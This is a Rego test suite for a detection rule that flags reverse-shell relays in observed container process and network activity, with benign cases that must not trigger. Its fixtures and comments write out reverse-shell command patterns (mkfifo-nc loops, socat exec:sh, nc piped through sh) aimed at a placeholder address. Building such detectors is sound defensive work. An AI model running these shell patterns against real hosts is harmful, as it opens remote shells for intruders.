package sallyport.behaviours.initial_execution["reverse-shell-relay_test"]

import data.sallyport.behaviours.initial_execution["reverse-shell-relay"] as rule
import data.sallyport.fixture as f

c2 := f.endpoint("203.0.113.50", 4444)

# mkfifo f; cat f | sh -i | nc host port > f
loop(shell, relay, connect) := f.observation({
	"processes": [
		f.process(20, ["/bin/cat", "/tmp/f"], {"stdio": [null, f.pipe(70), null]}),
		f.process(21, shell, {"stdio": [f.pipe(70), f.pipe(71), f.pipe(71)], "pipe_from": ["20.0"]}),
		f.process(22, relay, {"stdio": [f.pipe(71), {"kind": "file", "path": "/tmp/f"}, null], "pipe_from": ["21.0"]}),
	],
	"events": {
		"mknod": [f.event(5, "1.0", {"path": "/tmp/f", "mode": 4516})],
		"open": [f.event(25, "20.0", {"path": "/tmp/f"})],
		"connect": connect,
	},
})

connected(id) := [f.event(30, id, {"remote": c2})]

test_pipe_with_a_name if {
	every relay in [["/bin/nc", "203.0.113.50", "4444"], ["/usr/bin/openssl", "s_client", "-connect", "203.0.113.50:4444"], ["/usr/bin/telnet", "203.0.113.50", "4444"], ["/opt/own-relay"]] {
		found := rule.finding with input as loop(["/bin/sh", "-i"], relay, connected("22.0"))
		f.malicious(found)
		f.pointed(found)
	}
}

test_not_without_connection_or_shell if {
	count(rule.finding) == 0 with input as loop(["/bin/sh", "-i"], ["/bin/nc", "127.0.0.1", "4444"], [])
	count(rule.finding) == 0 with input as loop(["/bin/sed", "s/a/b/"], ["/bin/nc", "203.0.113.50", "4444"], connected("22.0"))
}

# socat exec:sh,pty and the like, and the same of programs that the image lacks.
started(relay, shell, kind, parts) := f.observation({
	"processes": [
		f.process(20, relay, parts),
		f.process(21, shell, {"parent": "20.0", "lineage": ["1.0", "20.0"], "stdio": [{"kind": kind}, {"kind": kind}, {"kind": kind}]}),
	],
	"events": {"connect": connected("20.0")},
})

test_terminal_or_sockets if {
	every relay in [["/usr/bin/socat", "tcp:203.0.113.50:4444", "exec:/bin/sh,pty"], ["/usr/bin/python3", "-c", "pty.spawn"]] {
		every kind in ["tty", "socket"] {
			f.malicious(rule.finding) with input as started(relay, ["/bin/sh"], kind, {})
		}
	}
	f.malicious(rule.finding) with input as started(["/tmp/agent"], ["/bin/bash", "-i"], "tty", {"drift": true})
}

# A program of the image between a shell and somebody, within TLS.
obeys(text, out, stdio, shell) := f.observation({
	"processes": [
		f.process(20, ["/app/server"], {"lineage_id": "l1"}),
		f.process(21, ["/bin/sh"], {"parent": "20.0", "lineage_id": "l1", "start_ms": 300, "stdio": shell}),
		f.process(22, ["/usr/bin/id"], {"parent": "21.0", "lineage": ["1.0", "20.0", "21.0"], "lineage_id": "l1", "start_ms": 700, "stdio": stdio}),
	],
	"flows": [f.flow("20.0", "203.0.113.52", 443, {"tls": true, "out": out, "messages": [{"ms": 600, "out": false, "type": "order", "fields": {"text": text}}]})],
	"events": {"connect": connected("20.0")},
})

printed := `uid=1000(app) gid=1000(app) groups=33(web)\x0a`

test_orders_obeyed if {
	pipes := [f.pipe(1), f.pipe(2), f.pipe(2)]
	every stdio in [pipes, [f.pipe(1), f.socket("203.0.113.52", 443), null]] {
		found := rule.finding with input as obeys("id", printed, stdio, pipes)
		f.malicious(found)
		f.pointed(found)
	}
}

# nc host 1 | sh | nc host 2
between(to) := f.observation({
	"processes": [
		f.process(20, ["/bin/nc", "203.0.113.66", "4444"], {"stdio": [null, f.pipe(70), null]}),
		f.process(21, ["/bin/sh"], {"stdio": [f.pipe(70), f.pipe(71), null], "pipe_from": ["20.0"]}),
		f.process(22, to, {"stdio": [f.pipe(71), null, null], "pipe_from": ["21.0"]}),
	],
	"events": {"connect": array.concat(connected("20.0"), [f.event(31, "22.0", {"remote": f.endpoint("203.0.113.66", 4445)})])},
})

test_between_two_connections if {
	found := rule.finding with input as between(["/usr/bin/telnet", "203.0.113.66", "4445"])
	f.malicious(found)
	f.pointed(found)
}

test_not_between_a_connection_and_a_program if {
	count(rule.finding) == 0 with input as between(["/usr/bin/tee", "/tmp/x"])
}

test_not_what_is_only_said if {
	pipes := [f.pipe(1), f.pipe(2), f.pipe(2)]
	count(rule.finding) == 0 with input as obeys("id", "hello", pipes, pipes)
	count(rule.finding) == 0 with input as obeys("status", printed, pipes, pipes)
	socket := [f.socket("203.0.113.52", 443), f.socket("203.0.113.52", 443), null]
	count(rule.finding) == 0 with input as obeys("id", printed, socket, socket) # reverse-shell
}

# Runners of build servers call their server and start shells for its jobs; so do clients of ssh.
test_not_other_programs_or_scripts if {
	count(rule.finding) == 0 with input as started(["/usr/bin/gitlab-runner", "run"], ["/bin/bash"], "tty", {})
	count(rule.finding) == 0 with input as started(["/usr/bin/ssh", "host"], ["/bin/sh", "-c", "exec proxy"], "socket", {})
	count(rule.finding) == 0 with input as started(["/usr/bin/python3", "/app/worker.py"], ["/bin/sh", "-c", "convert a b"], "socket", {"script": "/app/worker.py"})
}

# Recorded from images that were run: see testdata/observations.
test_recorded if {
	every name in ["reverse-shell-relay.fifo"] {
		found := rule.finding with input as data.observations[name]
		f.pointed(found)
	}
}

test_not_recorded if {
	every name in ["reverse-shell-relay.log-shipping", "reverse-shell.loopback", "benign.hello", "benign.web-entrypoint", "benign.web-server"] {
		count(rule.finding) == 0 with input as data.observations[name]
	}
}
